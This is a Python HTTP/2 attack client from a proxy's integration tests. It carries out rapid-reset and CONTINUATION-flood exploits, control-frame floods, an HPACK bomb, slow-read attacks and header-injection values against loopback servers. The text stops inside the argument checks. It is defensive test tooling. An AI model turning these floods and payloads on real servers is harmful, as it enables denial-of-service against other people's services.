#!/usr/bin/python3
"""HTTP/2 attack client for phigate's integration tests (tests/integration/h2_attack_test.cpp).

Connects with TLS + ALPN h2 to a loopback address and runs ONE attack (--mode), then prints ONE JSON
line with what it observed: the GOAWAY (error code, last stream id), RST_STREAM codes per stream,
response statuses per stream, body bytes received, whether the peer closed the connection, the elapsed
time, and mode-specific fields. It never decides pass/fail: the C++ test asserts on the JSON.

The preface, SETTINGS and well-formed requests go through h2's H2Connection (and its HPACK encoder);
frames h2 refuses to send (malformed header blocks, endless CONTINUATION, reused or even stream ids,
floods of control frames) are built with hyperframe and the same encoder, so the HPACK state stays
shared. Frames received are parsed here with hyperframe (not by H2Connection, which would refuse what a
misbehaving peer provokes), and header blocks decoded with hpack.

Bounded: every loop has a count (--count) and a time limit (--time-limit); the socket has a timeout.
Network: only 127.0.0.0/8 or ::1 (refused otherwise). Exit status 0 when the JSON line was printed,
2 on bad usage, 1 when the TLS connection could not be made (the JSON line says why).
"""

import argparse
import ipaddress
import json
import select
import socket
import ssl
import struct
import sys
import time

import h2.config
import h2.connection
import h2.settings
import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)
from hyperframe.exceptions import InvalidFrameError, UnknownFrameError

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ERROR_NAMES = {
    0x0: "NO_ERROR", 0x1: "PROTOCOL_ERROR", 0x2: "INTERNAL_ERROR", 0x3: "FLOW_CONTROL_ERROR",
    0x4: "SETTINGS_TIMEOUT", 0x5: "STREAM_CLOSED", 0x6: "FRAME_SIZE_ERROR", 0x7: "REFUSED_STREAM",
    0x8: "CANCEL", 0x9: "COMPRESSION_ERROR", 0xa: "CONNECT_ERROR", 0xb: "ENHANCE_YOUR_CALM",
    0xc: "INADEQUATE_SECURITY", 0xd: "HTTP_1_1_REQUIRED",
}


class Peer:
    """One TLS connection: what we sent and what we observed (frames parsed by hand)."""

    def __init__(self, args, settings=None, alpn=("h2",)):
        self.args = args
        self.t0 = time.monotonic()
        self.sock = None
        self.buf = b""
        self.decoder = hpack.Decoder()
        self.decoder.max_allowed_table_size = 65536
        # A bomb aimed at the server must not blow up our own decoder.
        self.decoder.max_header_list_size = 1 << 20
        self.goaway = None
        self.resets = {}
        self.statuses = {}
        self.data_bytes = {}
        self.end_stream = set()
        self.frames_in = 0
        self.settings_in = 0
        self.pings_in = 0
        self.closed = False
        self.close_reason = ""
        self.server_settings = {}
        self.frames_out = 0
        self.bytes_out = 0
        self.send_failed = ""  # the server stopped reading: we stop sending, still read its frames
        self.next_id = 1
        self.header_block = {}  # stream -> header fragments awaiting END_HEADERS
        self.ack_settings = True
        cfg = h2.config.H2Configuration(client_side=True, header_encoding=None,
                                        validate_outbound_headers=False,
                                        normalize_outbound_headers=False,
                                        validate_inbound_headers=False)
        self.conn = h2.connection.H2Connection(config=cfg)
        self.conn.local_settings = h2.settings.Settings(client=True, initial_values=settings or {
            h2.settings.SettingCodes.ENABLE_PUSH: 0,
        })
        self.encoder = self.conn.encoder
        self.alpn = None
        ctx = ssl.create_default_context(cafile=args.cafile) if args.cafile else ssl._create_unverified_context()
        ctx.set_alpn_protocols(list(alpn))
        raw = socket.create_connection((args.host, args.port), timeout=args.io_timeout)
        if args.rcvbuf:
            raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, args.rcvbuf)
        self.sock = ctx.wrap_socket(raw, server_hostname=args.sni)
        self.alpn = self.sock.selected_alpn_protocol()
        self.conn.initiate_connection()
        self.flush()

    # --- sending ----------------------------------------------------------------------------
    def flush(self):
        self.send_raw(self.conn.data_to_send())

    def send_raw(self, data):
        if not data or self.closed or self.send_failed:
            return
        try:
            self.sock.sendall(data)
            self.bytes_out += len(data)
        except (OSError, ssl.SSLError) as e:
            self.send_failed = type(e).__name__
            # What the server wrote before it closed (its GOAWAY) is still in our receive buffer.
            self.wait(lambda: False, 2)

    def send_frame(self, frame):
        self.frames_out += 1
        self.send_raw(frame.serialize())

    def alloc(self):
        sid = max(self.next_id, self.conn.highest_outbound_stream_id + 2 if self.conn.highest_outbound_stream_id else 1)
        self.next_id = sid + 2
        return sid

    def block(self, headers):
        """HPACK-encodes `headers` (list of (bytes, bytes)) with the connection's encoder, no checks."""
        return self.encoder.encode(headers)

    def request_headers(self, path, method=b"GET", extra=(), authority=None):
        return [(b":method", method), (b":scheme", b"https"), (b":path", path.encode()),
                (b":authority", (authority or self.args.authority).encode())] + list(extra)

    def send_headers_frame(self, sid, block, end_stream=True, end_headers=True):
        f = HeadersFrame(sid)
        f.data = block
        if end_stream:
            f.flags.add("END_STREAM")
        if end_headers:
            f.flags.add("END_HEADERS")
        self.send_frame(f)

    def send_request(self, path, method=b"GET", extra=(), body=None, sid=None, authority=None):
        """A request as raw frames: HEADERS (+CONTINUATION when the block is big) and DATA."""
        sid = sid or self.alloc()
        block = self.block(self.request_headers(path, method, extra, authority))
        first, rest = block[:16384], block[16384:]
        self.send_headers_frame(sid, first, end_stream=body is None, end_headers=not rest)
        while rest:
            c = ContinuationFrame(sid)
            c.data, rest = rest[:16384], rest[16384:]
            if not rest:
                c.flags.add("END_HEADERS")
            self.send_frame(c)
        if body is not None:
            d = DataFrame(sid)
            d.data = body
            d.flags.add("END_STREAM")
            self.send_frame(d)
        return sid

    def h2_request(self, path, method=b"GET", extra=()):
        """A well-formed request through H2Connection (h2 validates nothing we turned off, but it
        frames and tracks the stream)."""
        sid = self.conn.get_next_available_stream_id()
        sid = max(sid, self.next_id)
        self.next_id = sid + 2
        self.conn.send_headers(sid, self.request_headers(path, method, extra), end_stream=True)
        self.flush()
        return sid

    # --- receiving --------------------------------------------------------------------------
    def mark_closed(self, why):
        if not self.closed:
            self.closed = True
            self.close_reason = why

    def pump(self, timeout=0.0):
        """Reads what is available (waiting at most `timeout` for the first bytes) and parses it."""
        if self.closed:
            return
        deadline = time.monotonic() + timeout
        while not self.closed:
            left = max(0.0, deadline - time.monotonic())
            if not self.sock.pending():
                r, _, _ = select.select([self.sock], [], [], left)
                if not r:
                    return
            try:
                data = self.sock.recv(65536)
            except ssl.SSLWantReadError:
                continue
            except (OSError, ssl.SSLError) as e:
                self.mark_closed("recv: " + type(e).__name__)
                return
            if not data:
                self.mark_closed("eof")
                return
            self.buf += data
            self.parse()
            deadline = time.monotonic()  # drain what is readable now, then return

    def parse(self):
        while len(self.buf) >= 9:
            try:
                frame, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
            except UnknownFrameError as e:
                length = e.length
                if len(self.buf) < 9 + length:
                    return
                self.buf = self.buf[9 + length:]
                continue
            except InvalidFrameError:
                self.mark_closed("bad frame from server")
                return
            if len(self.buf) < 9 + length:
                return
            body, self.buf = self.buf[9:9 + length], self.buf[9 + length:]
            try:
                frame.parse_body(memoryview(body))
            except InvalidFrameError:
                self.mark_closed("bad frame body from server")
                return
            self.frames_in += 1
            self.on_frame(frame)

    def on_frame(self, f):
        if isinstance(f, GoAwayFrame):
            if self.goaway is None:
                self.goaway = {"error_code": f.error_code, "error": ERROR_NAMES.get(f.error_code, "?"),
                               "last_stream_id": f.last_stream_id}
            else:  # a graceful GOAWAY may be followed by a final one
                self.goaway = {"error_code": f.error_code, "error": ERROR_NAMES.get(f.error_code, "?"),
                               "last_stream_id": f.last_stream_id}
        elif isinstance(f, RstStreamFrame):
            self.resets[f.stream_id] = f.error_code
        elif isinstance(f, SettingsFrame):
            if "ACK" not in f.flags:
                self.settings_in += 1
                self.server_settings.update({int(k): v for k, v in f.settings.items()})
                if self.ack_settings:
                    ack = SettingsFrame(0)
                    ack.flags.add("ACK")
                    self.send_frame(ack)
        elif isinstance(f, PingFrame):
            self.pings_in += 1
        elif isinstance(f, (HeadersFrame, ContinuationFrame)):
            frag = self.header_block.get(f.stream_id, b"") + f.data
            if "END_HEADERS" in f.flags:
                self.header_block.pop(f.stream_id, None)
                try:
                    fields = self.decoder.decode(frag, raw=True)
                except Exception:  # noqa: BLE001 - a broken block from the server is an observation
                    fields = []
                    self.mark_closed("bad header block from server")
                for k, v in fields:
                    if k == b":status" and f.stream_id not in self.statuses:
                        self.statuses[f.stream_id] = int(v)
            else:
                self.header_block[f.stream_id] = frag
            if "END_STREAM" in f.flags:
                self.end_stream.add(f.stream_id)
        elif isinstance(f, DataFrame):
            self.data_bytes[f.stream_id] = self.data_bytes.get(f.stream_id, 0) + len(f.data)
            if "END_STREAM" in f.flags:
                self.end_stream.add(f.stream_id)

    def wait(self, pred, seconds):
        """Pumps until pred() or the connection closed or `seconds` passed."""
        end = time.monotonic() + seconds
        while not pred() and not self.closed and time.monotonic() < end:
            self.pump(min(0.2, max(0.0, end - time.monotonic())))
        return pred()

    def done(self, sid):
        return sid in self.end_stream or sid in self.resets

    def result(self, **extra):
        out = {
            "alpn": self.alpn,
            "goaway": self.goaway,
            "resets": {str(k): v for k, v in sorted(self.resets.items())},
            "statuses": {str(k): v for k, v in sorted(self.statuses.items())},
            "data_bytes": {str(k): v for k, v in sorted(self.data_bytes.items())},
            "closed": self.closed,
            "close_reason": self.close_reason,
            "send_failed": self.send_failed,
            "frames_in": self.frames_in,
            "frames_out": self.frames_out,
            "bytes_out": self.bytes_out,
            "elapsed_s": round(time.monotonic() - self.t0, 3),
        }
        out.update(extra)
        return out

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


# --- helpers ---------------------------------------------------------------------------------
def flood(p, args, make_frame, batch=50):
    """Sends up to args.count frames from make_frame(i) in batches, reading between batches, until
    the peer closes or args.time_limit passes. Returns how many were sent."""
    end = time.monotonic() + args.time_limit
    sent = 0
    while sent < args.count and not p.closed and not p.send_failed and time.monotonic() < end:
        chunk = b"".join(make_frame(sent + i).serialize() for i in range(min(batch, args.count - sent)))
        n = min(batch, args.count - sent)
        p.frames_out += n
        p.send_raw(chunk)
        sent += n
        p.pump(0)
    return sent


def finish(p, args, seconds=None):
    """After an attack: wait (bounded) for the peer to answer or close."""
    p.wait(lambda: p.goaway is not None and p.closed, seconds if seconds is not None else args.settle)


def probe(p, args, path="/ok/probe"):
    """A normal request on the same connection after the attack: status or None."""
    if p.closed or (p.goaway is not None and p.goaway["error_code"] != 0):
        return None
    sid = p.send_request(path)
    p.wait(lambda: p.done(sid), args.settle)
    return p.statuses.get(sid)


def per_case(args, cases, run_case):
    """Each case on a fresh connection. With --case, only that case, its fields at the top level
    (what the C++ test reads); otherwise one entry per case under "cases"."""
    names = [n for n, _ in cases]
    if args.case and args.case not in names:
        raise SystemExit("unknown --case %r for %s (%s)" % (args.case, args.mode, ", ".join(names)))
    out = {}
    for name, spec in cases:
        if args.case and name != args.case:
            continue
        p = Peer(args)
        p.wait(lambda: p.settings_in > 0, 2)
        try:
            out[name] = run_case(p, name, spec)
        finally:
            p.close()
    if args.case:
        return dict(out[args.case], mode=args.mode, case=args.case)
    return {"mode": args.mode, "cases": out}


def stream_case(p, args, sid):
    """Waits for `sid` to end (response or reset) or the connection to go; then probes."""
    p.wait(lambda: p.done(sid) or p.goaway is not None, args.settle)
    r = {"stream": sid, "status": p.statuses.get(sid), "reset": p.resets.get(sid),
         "goaway": p.goaway, "closed": p.closed}
    r["followup_status"] = probe(p, args)
    r["closed"] = p.closed
    return r


# --- modes -----------------------------------------------------------------------------------
def mode_rapid_reset(args):
    # CVE-2023-44487: HEADERS then RST_STREAM(CANCEL) at once, as fast as the socket takes them; a
    # server that starts work for each stream does it for nothing, without any concurrency limit.
    p = Peer(args)
    p.wait(lambda: p.settings_in > 0, 2)

    def pair(i):
        sid = p.alloc()
        h = HeadersFrame(sid)
        h.data = p.block(p.request_headers("/evil/rapid-reset/%d" % sid))
        h.flags.add("END_HEADERS")
        h.flags.add("END_STREAM")
        r = RstStreamFrame(sid)
        r.error_code = 0x8
        return _Pair(h, r)

    sent = flood(p, args, pair, batch=20)
    finish(p, args)
    return p.result(mode=args.mode, streams_sent=sent)


class _Pair:
    def __init__(self, a, b):
        self.a, self.b = a, b

    def serialize(self):
        return self.a.serialize() + self.b.serialize()


def mode_continuation_flood(args):
    # CVE-2024-27316: one header block that never ends; a server that buffers (or decodes) until
    # END_HEADERS grows without bound.
    p = Peer(args)
    p.wait(lambda: p.settings_in > 0, 2)
    sid = p.alloc()
    p.send_headers_frame(sid, p.block(p.request_headers("/evil/continuation")), end_stream=True,
                         end_headers=False)
    # Never-indexed literals with new names (RFC 7541 §6.2.3: 0x10 prefix): whole fields of ~110
    # bytes, so every CONTINUATION is decodable on its own and the server's table stays out of it.
    chunk = b"".join(b"\x10" + bytes([len(n)]) + n + bytes([100]) + b"a" * 100
                     for n in (b"x-pad-%d" % i for i in range(10)))

    def cont(i):
        c = ContinuationFrame(sid)
        c.data = chunk
        return c

    sent = flood(p, args, cont, batch=20)
    finish(p, args)
    return p.result(mode=args.mode, continuation_sent=sent)


def mode_settings_flood(args):
    p = Peer(args)
    p.wait(lambda: p.settings_in > 0, 2)

    def s(i):
        f = SettingsFrame(0)
        f.settings = {h2.settings.SettingCodes.ENABLE_PUSH: 0}
        return f

    sent = flood(p, args, s)
    finish(p, args)
    return p.result(mode=args.mode, settings_sent=sent)


def mode_ping_flood(args):
    p = Peer(args)
    p.wait(lambda: p.settings_in > 0, 2)

    def ping(i):
        f = PingFrame(0)
        f.opaque_data = struct.pack(">Q", i)
        return f

    sent = flood(p, args, ping)
    finish(p, args)
    return p.result(mode=args.mode, pings_sent=sent, pongs=p.pings_in)


def mode_priority_flood(args):
    # PRIORITY frames for idle streams are legal and cost the server a tree node each (RFC 9113 §5.3).
    p = Peer(args)
    p.wait(lambda: p.settings_in > 0, 2)

    def prio(i):
        f = PriorityFrame(2 * i + 101)
        f.depends_on = 0
        f.stream_weight = 15
        return f

    sent = flood(p, args, prio)
    finish(p, args)
    return p.result(mode=args.mode, priority_sent=sent)


def mode_window_update_flood(args):
    p = Peer(args)
    p.wait(lambda: p.settings_in > 0, 2)

    def wu(i):
        f = WindowUpdateFrame(0)
        f.window_increment = 1
        return f

    sent = flood(p, args, wu)
    finish(p, args)
    return p.result(mode=args.mode, window_updates_sent=sent)


def mode_empty_data_flood(args):
    # Empty DATA without END_STREAM: no flow control cost for the client, a frame to process each.
    p = Peer(args)
    p.wait(lambda: p.settings_in > 0, 2)
    sid = p.alloc()
    p.send_headers_frame(sid, p.block(p.request_headers("/ok/empty-data", b"POST")), end_stream=False)

    def empty(i):
        return DataFrame(sid)

    sent = flood(p, args, empty)
    finish(p, args)
    return p.result(mode=args.mode, empty_data_sent=sent, stream=sid)


def mode_oversized_headers(args):
    # Fields above http2.max_header_list_bytes (name + value + 32 each, RFC 9113 §6.5.2): 431 or RST.
    p = Peer(args)
    p.wait(lambda: p.settings_in > 0, 2)
    size = args.size or 40000
    n = max(1, size // 1000)
    extra = [(b"x-big-%d" % i, b"v" * 1000) for i in range(n)]
    sid = p.send_request("/evil/oversized-headers", extra=extra)
    r = stream_case(p, args, sid)
    return p.result(mode=args.mode, header_bytes=n * (1000 + 8 + 32), **r)


def mode_hpack_bomb(args):
    # One ~4 KiB field in the dynamic table, then a block that refers to it thousands of times:
    # 1 byte on the wire, 4 KiB decoded, each.
    p = Peer(args)
    p.wait(lambda: p.settings_in > 0, 2)
    big = (b"x-bomb", b"b" * 3000)
    sid1 = p.send_request("/ok/hpack-seed", extra=[big])  # inserts `big` at dynamic index 62
    p.wait(lambda: p.done(sid1), args.settle)
    seed_status = p.statuses.get(sid1)
    sid = p.alloc()
    block = p.block(p.request_headers("/evil/hpack-bomb"))
    # Where `big` sits in the dynamic table now (the prefix above may have inserted entries after it).
    entries = [(bytes(n), bytes(v)) for n, v in p.encoder.header_table.dynamic_entries]
    if big not in entries:
        return p.result(mode=args.mode, error="seed field evicted from the HPACK table")
    ref = hpack.hpack.encode_integer(62 + entries.index(big), 7)
    ref[0] |= 0x80  # indexed header field (RFC 7541 §6.1)
    reps = min(args.count, (16000 - len(block)) // len(ref))
    block += bytes(ref) * reps
    p.send_headers_frame(sid, block)
    r = stream_case(p, args, sid)
    return p.result(mode=args.mode, seed_status=seed_status, references=reps,
                    decoded_bytes=reps * (len(big[0]) + len(big[1]) + 32), **r)


def mode_invalid_pseudo(args):
    base = lambda p, path: p.request_headers(path)  # noqa: E731
    cases = [
        ("missing_path", lambda p: [h for h in base(p, "/evil/missing-path") if h[0] != b":path"]),
        ("unknown_pseudo", lambda p: base(p, "/evil/unknown-pseudo") + [(b":foo", b"bar")]),
        ("pseudo_after_regular", lambda p: [(b":method", b"GET"), (b":scheme", b"https"),
                                            (b"x-a", b"1"), (b":path", b"/evil/pseudo-after"),
                                            (b":authority", args.authority.encode())]),
        ("uppercase_name", lambda p: base(p, "/evil/uppercase") + [(b"X-Upper", b"1")]),
        ("duplicate_path", lambda p: base(p, "/evil/dup-path") + [(b":path", b"/evil/dup-path-2")]),
        ("response_pseudo", lambda p: base(p, "/evil/status-pseudo") + [(b":status", b"200")]),
        # RFC 8441 §4: :protocol only with CONNECT (a valid extended CONNECT is a WebSocket now:
        # tests/integration/h2_websocket_test.cpp).
        ("protocol_on_get", lambda p: [(b":method", b"GET"), (b":protocol", b"websocket"),
                                       (b":scheme", b"https"), (b":path", b"/evil/protocol"),
                                       (b":authority", args.authority.encode())]),
    ]

    def run(p, name, make):
        sid = p.alloc()
        p.send_headers_frame(sid, p.block(make(p)))
        return stream_case(p, args, sid)

    return per_case(args, cases, run)


def mode_authority_host_mismatch(args):
    def run(p, name, host):
        sid = p.send_request("/evil/host-mismatch", extra=[(b"host", host.encode())])
        return stream_case(p, args, sid)

    return per_case(args, [("other_host", "other.example"), ("port_mismatch", args.authority + ":1")], run)


def mode_connection_specific(args):
    cases = [("connection", [(b"connection", b"keep-alive")]),
             ("te_gzip", [(b"te", b"gzip")]),
             ("transfer_encoding", [(b"transfer-encoding", b"chunked")]),
             ("keep_alive", [(b"keep-alive", b"timeout=5")]),
             ("proxy_connection", [(b"proxy-connection", b"keep-alive")]),
             ("upgrade", [(b"upgrade", b"websocket")]),
             # `te: trailers` is the one allowed value (RFC 9113 §8.2.2): the control, served.
             ("te_trailers_allowed", [(b"te", b"trailers")])]

    def run(p, name, extra):
        path = "/ok/te-trailers" if name == "te_trailers_allowed" else "/evil/conn-specific/" + name
        sid = p.send_request(path, extra=extra)
        return stream_case(p, args, sid)

    return per_case(args, cases, run)


def mode_content_length_mismatch(args):
    cases = [("more", (5, b"0123456789")), ("fewer", (10, b"01234"))]

    def run(p, name, spec):
        cl, body = spec
        sid = p.send_request("/evil/content-length/" + name + "?echo=1", method=b"POST",
                             extra=[(b"content-length", str(cl).encode())], body=body)
        return stream_case(p, args, sid)

    return per_case(args, cases, run)


def mode_stream_id_reuse(args):
    def run(p, name, _):
        if name == "reuse":
            sid = p.send_request("/ok/first")
            p.wait(lambda: p.done(sid), args.settle)
            first = p.statuses.get(sid)
            p.send_request("/evil/reuse", sid=sid)
        elif name == "even":
            first = None
            sid = p.send_request("/evil/even", sid=2)
        else:  # decreasing
            first = None
            p.send_request("/ok/five", sid=5)
            sid = p.send_request("/evil/decreasing", sid=3)
        p.wait(lambda: p.goaway is not None and p.closed, min(args.settle, 2.0))
        # RFC 9113 §5.1: a closed stream's frames MAY be a connection error; a server that ignores
        # them must still serve the next (higher) stream and never the ignored request.
        followup = None
        if not p.closed and p.goaway is None:
            p.next_id = max(p.next_id, 7)
            followup = probe(p, args)
        return {"first_status": first, "stream": sid, "status": p.statuses.get(sid),
                "reset": p.resets.get(sid), "goaway": p.goaway, "closed": p.closed,
                "followup_status": followup}

    return per_case(args, [("reuse", None), ("even", None), ("decreasing", None)], run)


def mode_crlf_in_value(args):
    cases = [("cr", [(b"x-a", b"a\rb")]), ("lf", [(b"x-a", b"a\nx-injected: 1")]),
             ("nul", [(b"x-a", b"a\x00b")]), ("crlf_name", [(b"x-a\r\nx-b", b"1")]),
             ("space_name", [(b"x a", b"1")]), ("lf_path", None)]

    def run(p, name, extra):
        if extra is None:
            sid = p.alloc()
            hs = p.request_headers("/evil/lf-path")
            hs[2] = (b":path", b"/evil/lf\r\nX-Injected: 1")
            p.send_headers_frame(sid, p.block(hs))
        else:
            sid = p.send_request("/evil/crlf/" + name, extra=extra)
        return stream_case(p, args, sid)

    return per_case(args, cases, run)


def mode_zero_window(args):
    # Window 0 for every stream, a big response asked for, and never a WINDOW_UPDATE: the server can
    # send no DATA; it must neither keep the stream (and its upstream) forever nor buffer the body.
    settings = {h2.settings.SettingCodes.ENABLE_PUSH: 0, h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0}
    p = Peer(args, settings=settings)
    p.wait(lambda: p.settings_in > 0, 2)
    sid = p.send_request(args.path or "/ok/zero-window?bytes=%s" % (args.size or "8m"))
    p.wait(lambda: p.done(sid) or p.goaway is not None, args.time_limit)
    return p.result(mode=args.mode, stream=sid, status=p.statuses.get(sid), reset=p.resets.get(sid),
                    stream_ended=p.done(sid))


def mode_slow_read(args):
    # Big responses asked for on many streams, then the socket is not read at all (the client's TCP
    # window fills, the server's writes block): the server must bound what it holds and give up.
    p = Peer(args)
    p.wait(lambda: p.settings_in > 0, 2)
    streams = [p.send_request(args.path or "/ok/slow-read?bytes=%s" % (args.size or "4m"))
               for _ in range(min(args.count, 50))]
    t_stop = time.monotonic()
    time.sleep(max(0.0, args.time_limit))  # the attack is not reading: a sleep is the point
    # Then read what the server left us (bounded): did it close, reset or keep everything?
    p.wait(lambda: p.closed, args.settle)
    return p.result(mode=args.mode, streams=len(streams), paused_s=round(time.monotonic() - t_stop, 3),
                    body_bytes=sum(p.data_bytes.values()),
                    streams_ended=sum(1 for s in streams if p.done(s)))


def mode_too_many_streams(args):
    # Streams held open (POST without END_STREAM) above SETTINGS_MAX_CONCURRENT_STREAMS must be
    # refused (RST_STREAM REFUSED_STREAM, RFC 9113 §5.1.2), never queued.
    p = Peer(args)
    p.ack_settings = not args.no_settings_ack
    p.wait(lambda: p.settings_in > 0, 2)
    limit = p.server_settings.get(h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS, 100)
    extra = max(1, args.extra)
    opened = []
    for _ in range(min(limit + extra, 1000)):
        sid = p.alloc()
        p.send_headers_frame(sid, p.block(p.request_headers("/ok/held", b"POST",
                                                            [(b"content-length", b"1")])), end_stream=False)
        opened.append(sid)
    p.wait(lambda: len(p.resets) >= extra or p.goaway is not None, args.settle)
    codes = {}
    for s in opened:
        if s in p.resets:
            codes[ERROR_NAMES.get(p.resets[s], str(p.resets[s]))] = codes.get(
                ERROR_NAMES.get(p.resets[s], str(p.resets[s])), 0) + 1
    refused = [s for s in opened if p.resets.get(s) == 0x7]
    # Finish one of the held streams: the connection still serves.
    first = opened[0]
    d = DataFrame(first)
    d.data = b"x"
    d.flags.add("END_STREAM")
    p.send_frame(d)
    p.wait(lambda: p.done(first), args.settle)
    return p.result(mode=args.mode, max_concurrent_streams=limit, opened=len(opened), reset_codes=codes,
                    refused=len(refused), first_refused=refused[0] if refused else None,
                    held_status=p.statuses.get(first))


def mode_h2c_preface_plain(args):
    # The HTTP/2 preface on the plain HTTP listener (prior-knowledge h2c): phigate speaks no HTTP/2
    # without TLS, so no SETTINGS frame may come back.
    t0 = time.monotonic()
    s = socket.create_connection((args.host, args.plain_port or args.port), timeout=args.io_timeout)
    settings = SettingsFrame(0)
    headers = HeadersFrame(1)
    headers.data = hpack.Encoder().encode([(b":method", b"GET"), (b":scheme", b"http"),
                                           (b":path", b"/evil/h2c"), (b":authority", args.authority.encode())])
    headers.flags.add("END_HEADERS")
    headers.flags.add("END_STREAM")
    s.sendall(PREFACE + settings.serialize() + headers.serialize())
    got = b""
    closed = False
    end = time.monotonic() + args.settle
    while len(got) < 65536 and time.monotonic() < end:
        r, _, _ = select.select([s], [], [], max(0.0, end - time.monotonic()))
        if not r:
            break
        try:
            d = s.recv(4096)
        except OSError:
            closed = True
            break
        if not d:
            closed = True
            break
        got += d
    s.close()
    # An HTTP/2 server's first frame is SETTINGS: type 0x4 at offset 3, stream 0.
    looks_h2 = len(got) >= 9 and got[3] == 0x4 and got[5:9] == b"\0\0\0\0"
    status = None
    if got.startswith(b"HTTP/1."):
        try:
            status = int(got.split(b" ", 2)[1])
        except (IndexError, ValueError):
            status = None
    return {"mode": args.mode, "http1_status": status, "h2_settings_received": looks_h2,
            "bytes_received": len(got), "closed": closed, "elapsed_s": round(time.monotonic() - t0, 3)}


def mode_held_uploads(args):
    # Request buffering (a buffered route): --count POST streams on ONE connection, each announcing
    # content-length --size and sending only --partial bytes, then held for --settle seconds. An
    # announced length must cost the server nothing, and one connection's streams may hold only a
    # share of the worker's budget: which streams were answered (shed) while held is the output.
    p = Peer(args)
    p.wait(lambda: p.settings_in > 0, 2)
    size = int(args.size or "60000")
    streams = []
    for _ in range(min(args.count, 50)):
        sid = p.alloc()
        p.send_headers_frame(sid, p.block(p.request_headers(args.path or "/b/held", b"POST",
                                                            [(b"content-length", str(size).encode())])),
                             end_stream=False)
        left = min(args.partial, size - 1)
        while left > 0:
            d = DataFrame(sid)
            d.data = b"x" * min(left, 16384)
            left -= len(d.data)
            p.send_frame(d)
        streams.append(sid)
    p.wait(lambda: p.closed, args.settle)  # holding is the attack: bounded by --settle
    return p.result(mode=args.mode, streams=len(streams),
                    answered=sum(1 for s in streams if s in p.statuses or s in p.resets))


def mode_paused_upload(args):
    # Request buffering, decided again once the body is whole: ONE POST announcing --size bytes
    # sends --partial of them, prints a "HELD" line, waits (bounded by --time-limit) until the file
    # --go-file exists (the test changed the configuration meanwhile), sends the rest and reports
    # the answer's status.
    import os
    p = Peer(args)
    p.wait(lambda: p.settings_in > 0, 2)
    size = int(args.size or "20000")
    sid = p.alloc()
    p.send_headers_frame(sid, p.block(p.request_headers(args.path or "/b/paused", b"POST",
                                                        [(b"content-length", str(size).encode())])),
                         end_stream=False)

    def data(n, last):
        while n > 0 or last:
            d = DataFrame(sid)
            d.data = b"y" * min(n, 16384)
            n -= len(d.data)
            if last and n == 0:
                d.flags.add("END_STREAM")
                last = False
            p.send_frame(d)

    data(min(args.partial, size - 1), False)
    print("HELD", flush=True)
    deadline = time.monotonic() + args.time_limit
    while not os.path.exists(args.go_file) and time.monotonic() < deadline:
        p.wait(lambda: p.closed, 0.05)  # bounded poll for the test's go-ahead
    data(size - min(args.partial, size - 1), True)
    p.wait(lambda: p.done(sid) or p.closed, args.settle)
    return p.result(mode=args.mode, stream=sid, status=p.statuses.get(sid), go=os.path.exists(args.go_file))


def mode_normal(args):
    # Not an attack: one well-formed request through H2Connection (the tests' control).
    p = Peer(args)
    p.wait(lambda: p.settings_in > 0, 2)
    sid = p.h2_request(args.path or "/ok/normal")
    p.wait(lambda: p.done(sid), args.settle)
    return p.result(mode=args.mode, stream=sid, status=p.statuses.get(sid))


def summarize(out):
    """Adds flat summary fields (unique names, readable without a JSON parser) and caps the
    per-stream maps of the floods."""
    g = out.get("goaway", "absent")
    if g != "absent":
        out["goaway_code"] = g["error_code"] if g else None
        out["goaway_last"] = g["last_stream_id"] if g else None
    resets = out.get("resets")
    if isinstance(resets, dict):
        counts = {}
        for code in resets.values():
            name = "rst_" + ERROR_NAMES.get(code, str(code)).lower()
            counts[name] = counts.get(name, 0) + 1
        out.update(counts)
        out["rst_total"] = len(resets)
        if len(resets) > 100:
            out["resets"] = dict(list(resets.items())[:100])
    data = out.get("data_bytes")
    if isinstance(data, dict):
        out["data_bytes_total"] = sum(data.values())
        if len(data) > 100:
            out["data_bytes"] = dict(list(data.items())[:100])
    statuses = out.get("statuses")
    if isinstance(statuses, dict):
        out["statuses_total"] = len(statuses)
        for v in statuses.values():
            out["status_%dxx" % (v // 100)] = out.get("status_%dxx" % (v // 100), 0) + 1
        if len(statuses) > 100:
            out["statuses"] = dict(list(statuses.items())[:100])
    return out


MODES = {name[5:]: fn for name, fn in globals().items() if name.startswith("mode_")}


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--mode", required=True, choices=sorted(MODES))
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, required=True, help="the TLS listener")
    ap.add_argument("--plain-port", type=int, default=0, help="the plain HTTP listener (h2c_preface_plain)")
    ap.add_argument("--sni", default="app.example")
    ap.add_argument("--authority", default="app.example")
    ap.add_argument("--cafile", default="", help="verify against this CA (default: no verification)")
    ap.add_argument("--count", type=int, default=2000, help="frames/streams at most")
    ap.add_argument("--time-limit", type=float, default=10.0, help="seconds the attack runs at most")
    ap.add_argument("--settle", type=float, default=5.0, help="seconds to wait for the answer")
    ap.add_argument("--io-timeout", type=float, default=10.0)
    ap.add_argument("--case", default="", help="per-case modes: run only this case, flat JSON")
    ap.add_argument("--size", default="", help="bytes (oversized_headers) or a bytes= value (zero_window, slow_read)")
    ap.add_argument("--path", default="")
    ap.add_argument("--extra", type=int, default=10, help="streams above the limit (too_many_streams)")
    ap.add_argument("--no-settings-ack", action="store_true",
                    help="too_many_streams: never acknowledge the server's SETTINGS (its limits stay pending)")
    ap.add_argument("--partial", type=int, default=0, help="body bytes sent per stream (held_uploads)")
    ap.add_argument("--go-file", default="", help="paused_upload: the file whose existence ends the pause")
    ap.add_argument("--rcvbuf", type=int, default=0, help="SO_RCVBUF (slow_read)")
    args = ap.parse_args()
    if args.mode == "oversized_headers" and args.size:
        args.size = int(args.size)
    if args.count <= 0 or args.count > 1000000 or args.time_limit > 120 or args.settle > 60:
        ap.error("--count in 1..1000000, --time-limit <= 120, --settle <= 60")
    try:
        if not ipaddress.ip_address(args.host).is_loopback:
            ap.error("loopback addresses only")
    except ValueError:
